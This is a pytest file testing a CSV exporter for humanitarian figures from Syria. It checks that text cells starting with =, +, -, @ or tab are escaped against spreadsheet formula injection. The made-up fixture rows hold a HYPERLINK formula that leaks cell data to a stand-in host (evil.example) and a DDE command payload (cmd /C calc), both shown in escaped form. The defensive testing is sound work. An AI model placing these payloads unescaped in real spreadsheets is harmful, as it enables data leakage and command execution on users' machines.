"""The CSV export, compared as exact text (Datasette's tests/test_csv.py style).

The fixture rows are MADE UP (tests/unit/export_madeup.py): a publisher that is an Excel
formula, a document that is a DDE payload, Arabic names, a region, quotes and commas.
"""

from __future__ import annotations

import io

import pandas as pd
import pytest
from export_madeup import made_up_bundle

from app.export.columns import ColumnType
from app.export.csv_writer import csv_chunks
from app.export.params import ExportParams
from app.export.rows import export_table
from app.export.text import cell_text, neutralise

HEADER = (
    "ADM1_PCODE,ADM1_EN,ADM1_AR,ADM2_PCODE,ADM2_EN,ADM2_AR,ADM3_PCODE,ADM3_EN,ADM3_AR,"
    "figure_id,metric,kind,metric_as_written,sector,value,qualifier,low,high,period_start,"
    "period_end,area_pcode,region,area_as_written,publisher,document,url,published_date,note,"
    "source_file,source_row,duplicate,sub_area,flags\r\n"
)
HXL = (
    "#adm1+code,#adm1+name,#adm1+name+i_ar,#adm2+code,#adm2+name,#adm2+name+i_ar,#adm3+code,"
    "#adm3+name,#adm3+name+i_ar,#meta+id,#indicator+name,#indicator+type,"
    "#indicator+name+as_written,#sector,#indicator+value,#meta+qualifier,#indicator+min,"
    "#indicator+max,#date+start,#date+end,#loc+code,#region+code,#loc+name+as_written,"
    "#meta+source,#meta+document,#meta+url,#date+reported,#meta+note,#meta+file,#meta+row,"
    "#meta+duplicate,#meta+sub_area,#meta+flags\r\n"
)
ROWS = (
    '"SY07","Idlib","إدلب","SY0703","Harem","حارم",,,,"madeup0003","civilians_killed","flow",'
    '"civilians_killed",,12.5,"about",11,14,,2020-01-31,"SY0703",,"Harem","MADE-UP publisher",'
    '"Made-up casualty note",,2020-02-01,,"madeup.csv",4,false,false,\r\n'
    ',,,,,,,,,"madeup0002","idps_displaced_since","cumulative","\'\tdisplaced_since_2019-12-01",'
    ',900000,"more than",900000,990000,2019-12-01,2020-02-16,,"nw_syria","\'@NW Syria",'
    '"MADE-UP publisher","Made-up report, ""quoted"", 16 Feb","https://example.org/made-up",,'
    '"\'-5 (a text cell that starts with a minus)","madeup.csv",3,false,false,\r\n'
    '"SY07","Idlib","إدلب","SY0703","Harem","حارم","SY070301","Dana","الدانا","madeup0001",'
    '"idp_arrivals","flow","idp_arrivals",,1500,,1500,1500,2020-02-01,2020-02-29,"SY070301",,'
    '"الدانا","\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",'
    '"\'+cmd|\' /C calc\'!A0",,2020-03-02,"MADE-UP test row, not a real figure","madeup.csv",2,'
    "false,false,\r\n"
)


@pytest.fixture(scope="module")
def table(bundle):
    return export_table(made_up_bundle(bundle), ExportParams(), ["OCHA"])


def test_exact_csv(table) -> None:
    assert "".join(csv_chunks(table)) == "\ufeff" + HEADER + ROWS


def test_exact_csv_with_hxl_row(table) -> None:
    assert "".join(csv_chunks(table, hxl=True)) == "\ufeff" + HEADER + HXL + ROWS


def test_one_metric_gets_its_own_value_tag(bundle) -> None:
    t = export_table(made_up_bundle(bundle), ExportParams(metrics=("civilians_killed",)), [])
    tags = "".join(csv_chunks(t, hxl=True)).split("\r\n")[1].split(",")
    assert tags[14] == "#affected+killed+civilians"


def test_chunks_are_rows_not_one_string(table) -> None:
    chunks = list(csv_chunks(table, chunk_rows=1))
    assert len(chunks) == 1 + 3  # header, then one chunk per row
    assert all(c.endswith("\r\n") for c in chunks)


def test_text_survives_a_csv_reader(table) -> None:
    """A standards-following reader gets the neutralised text back, Arabic intact."""
    text = "".join(csv_chunks(table))
    df = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(df["ADM3_AR"]) == ["", "", "الدانا"]
    assert df.loc[2, "publisher"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert df.loc[1, "metric_as_written"] == "'\tdisplaced_since_2019-12-01"
    assert df.loc[0, "value"] == "12.5"


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        ("=1+1", ColumnType.TEXT, "'=1+1"),
        ("+33 1 23", ColumnType.TEXT, "'+33 1 23"),
        ("-5", ColumnType.TEXT, "'-5"),  # text column: escaped even if it looks like a number
        ("@SUM(A1)", ColumnType.TEXT, "'@SUM(A1)"),
        ("\tx", ColumnType.TEXT, "'\tx"),
        ("\rx", ColumnType.TEXT, "'\rx"),
        ("OCHA = UN", ColumnType.TEXT, "OCHA = UN"),  # only the first character counts
        ("إدلب", ColumnType.TEXT, "إدلب"),
        (-5.0, ColumnType.NUMBER, "-5"),  # number column: a number, never escaped
        (-0.5, ColumnType.NUMBER, "-0.5"),
        (1500.0, ColumnType.NUMBER, "1500"),
        (12.5, ColumnType.NUMBER, "12.5"),
        (7, ColumnType.INTEGER, "7"),
        (pd.Timestamp("2020-02-16"), ColumnType.DATE, "2020-02-16"),
        (pd.NaT, ColumnType.DATE, ""),
        (None, ColumnType.TEXT, ""),
        (float("nan"), ColumnType.NUMBER, ""),
        (True, ColumnType.BOOLEAN, "true"),
    ],
)
def test_cell_text(value: object, kind: ColumnType, expected: str) -> None:
    assert cell_text(value, kind) == expected


def test_neutralise_is_idempotent_on_safe_text() -> None:
    assert neutralise(neutralise("=x")) == "'=x"
    assert neutralise("'=x") == "'=x"
